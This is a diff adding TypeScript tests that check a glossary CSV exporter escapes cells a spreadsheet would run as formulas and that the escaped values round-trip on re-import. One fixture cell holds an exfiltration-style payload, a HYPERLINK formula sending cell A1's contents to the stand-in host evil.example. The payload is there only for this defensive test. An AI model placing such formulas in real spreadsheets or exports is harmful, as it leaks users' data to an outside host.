@@ -144,3 +144,53 @@ describe("the glossary CSV", () => {
     expect(problemsOf(() => readGlossaryCsv(""))).toEqual(["line 1: the file is empty; it needs a header row (name,definition,…)"]);
   });
 });
+
+describe("cells a spreadsheet would run as formulas", () => {
+  const hostile = {
+    name: "Customer",
+    definition: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    example: "+1 555 0100",
+    formula: "-2+3",
+    aliases: ["@SUM(A1:A9)", "client"],
+    owner: "sales",
+    consumers: [],
+    tags: ["-internal"],
+    policy: null,
+    status: "active" as const,
+    variants: [{ domain: "support", text: "'=already quoted once" }],
+  };
+  const glossary = { domains: [], terms: [hostile, { ...hostile, name: "Churn", definition: "\rstarts with a carriage return", formula: "'-'" }] };
+
+  it("are written behind an apostrophe and quoted, so a spreadsheet shows them as text", () => {
+    const [, customer] = writeGlossaryCsv(glossary).split("\r\n");
+    expect(customer).toBe(
+      `Customer,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")","'+1 555 0100","'-2+3","'@SUM(A1:A9); client",sales,,"'-internal",,active,"''=already quoted once"`,
+    );
+    expect(formatCsv([["\r"], ["\tx"], ["＝1+1"], ["safe - text"], ["'plain apostrophe"]])).toBe(
+      `"'\r"\r\n"'\tx"\r\n"'＝1+1"\r\nsafe - text\r\n'plain apostrophe\r\n`,
+    );
+  });
+
+  it("are read back as they were, so export, import and export again writes the same bytes", () => {
+    const first = writeGlossaryCsv(glossary);
+    const records = readGlossaryCsv(first);
+    expect(records.map((r) => r.data)).toMatchObject([
+      { definition: hostile.definition, example: "+1 555 0100", formula: "-2+3", aliases: ["@SUM(A1:A9)", "client"], tags: ["-internal"] },
+      { definition: "\rstarts with a carriage return", formula: "'-'", variants: [{ domain: "support", text: "'=already quoted once" }] },
+    ]);
+    const reread = { domains: [], terms: records.map((r, i) => ({ ...glossary.terms[i]!, ...(r.data as object) })) };
+    expect(writeGlossaryCsv(reread as typeof glossary)).toBe(first);
+  });
+
+  it("round-trip whatever cells formatCsv writes, apostrophes and formula signs included", () => {
+    const field = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "a", ",", '"', "\n", "＠") });
+    fc.assert(
+      fc.property(fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
+        const text = formatCsv(rows);
+        expect(parseCsv(text).map((r) => r.fields)).toEqual(rows);
+        expect(formatCsv(parseCsv(text).map((r) => r.fields))).toBe(text);
+        return true;
+      }),
+    );
+  });
+});
